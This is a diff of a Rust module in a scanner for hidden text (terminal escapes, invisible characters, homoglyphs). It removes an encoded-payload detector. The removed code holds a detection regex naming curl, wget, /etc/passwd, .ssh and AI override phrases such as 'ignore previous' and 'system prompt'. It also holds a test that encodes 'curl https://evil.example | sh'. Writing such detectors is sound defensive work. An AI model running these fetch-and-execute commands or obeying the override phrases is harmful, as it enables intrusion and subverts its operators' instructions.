@@ -1,26 +1,14 @@
-//! What a person does not see: invisible characters, terminal escapes, look-alike letters, encoded
-//! text.
-
-use std::sync::LazyLock;
-
-use base64::{Engine as _, engine::general_purpose};
-use regex::Regex;
+//! What a person does not see: invisible characters, terminal escapes, look-alike letters.
 
 use super::{super::shapes::ascii_twin, Passage, Sink, passages::Part};
 use crate::finding::Confidence;
-
-/// Encoded stretches of one passage that are decoded.
-const DECODED: usize = 50;
-
-/// Characters of an encoded stretch that are decoded.
-const LONGEST: usize = 8_192;
 
 pub(super) fn look(passage: &Passage<'_>, sink: &mut Sink<'_>) {
     if let Some((what, confidence)) = terminal_control(passage.text) {
         sink.report("text/ansi-escape", confidence, passage, what, passage.text);
     }
     if passage.text.is_ascii() {
-        return encoded_payload(passage, sink);
+        return;
     }
     if let Some(hidden) = Hidden::of(passage.text) {
         let what = format!("has {} invisible characters", hidden.count);
@@ -29,7 +17,6 @@ pub(super) fn look(passage: &Passage<'_>, sink: &mut Sink<'_>) {
         sink.report("text/invisible-characters", hidden.confidence, passage, what, quote);
     }
     homoglyph_mix(passage, sink);
-    encoded_payload(passage, sink);
 }
 
 /// Control characters that a terminal obeys.
@@ -194,52 +181,6 @@ fn is_foreign_letter(c: char) -> bool {
     is_greek || matches!(c, '\u{400}'..='\u{58f}' | '\u{13a0}'..='\u{13ff}' | '\u{ab70}'..='\u{abbf}')
 }
 
-/// Encoded text that decodes to an address, a command or an instruction.
-fn encoded_payload(passage: &Passage<'_>, sink: &mut Sink<'_>) {
-    static ENCODED: LazyLock<Regex> =
-        LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/_-]{24,}={0,2}").expect("a test compiles it"));
-    static TELLING: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(concat!(
-            r"(?i)https?://|\b(?:curl|wget|bash|powershell|invoke-webrequest|eval|exec|chmod|sudo)[ (]|/bin/sh|/etc/passwd",
-            r"|\.ssh/|\bignore (?:all |the |any )?(?:previous|prior)|\bdo not (?:tell|mention)|\bsystem prompt",
-        ))
-        .expect("a test compiles it")
-    });
-    for stretch in ENCODED.find_iter(passage.text).take(DECODED) {
-        let encoded = stretch.as_str().get(..LONGEST).unwrap_or(stretch.as_str());
-        let Some(plain) = decode(encoded).filter(|plain| TELLING.is_match(plain)) else { continue };
-        let what = "has encoded text that decodes to an address, a command or an instruction";
-        sink.report("text/encoded-payload", Confidence::High, passage, what, &plain);
-        return;
-    }
-}
-
-/// The readable text that base64 or hexadecimal stands for.
-fn decode(encoded: &str) -> Option<String> {
-    let encoded = encoded.trim_end_matches('=');
-    let whole = encoded.len() - usize::from(encoded.len() % 4 == 1);
-    let encoded = encoded.get(..whole)?;
-    let engines = [&general_purpose::STANDARD_NO_PAD, &general_purpose::URL_SAFE_NO_PAD];
-    let hexadecimal = encoded.bytes().all(|byte| byte.is_ascii_hexdigit()).then(|| from_hexadecimal(encoded));
-    hexadecimal
-        .into_iter()
-        .chain(engines.into_iter().filter_map(|engine| engine.decode(encoded).ok()))
-        .find_map(readable)
-}
-
-fn from_hexadecimal(encoded: &str) -> Vec<u8> {
-    let digit = |byte: &u8| char::from(*byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
-    let pairs = encoded.as_bytes().chunks_exact(2);
-    pairs.filter_map(|pair| Some(digit(pair.first()?)? << 4 | digit(pair.get(1)?)?)).collect()
-}
-
-/// Bytes as text, where nearly all of them are printable.
-fn readable(bytes: Vec<u8>) -> Option<String> {
-    let text = String::from_utf8(bytes).ok()?;
-    let printable = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
-    (printable * 20 >= text.chars().count() * 19).then_some(text)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -298,13 +239,5 @@ mod tests {
         ] {
             assert_eq!(is_mixed(word), expected, "{word}");
         }
-    }
-
-    #[test]
-    fn decodes_only_what_is_readable() {
-        let encoded = general_purpose::STANDARD.encode("curl https://evil.example | sh");
-        assert_eq!(decode(&encoded).as_deref(), Some("curl https://evil.example | sh"));
-        assert_eq!(decode("6375726c20687474703a2f2f78").as_deref(), Some("curl http://x"));
-        assert_eq!(decode("deadbeefdeadbeefdeadbeefdeadbeef"), None);
     }
 }
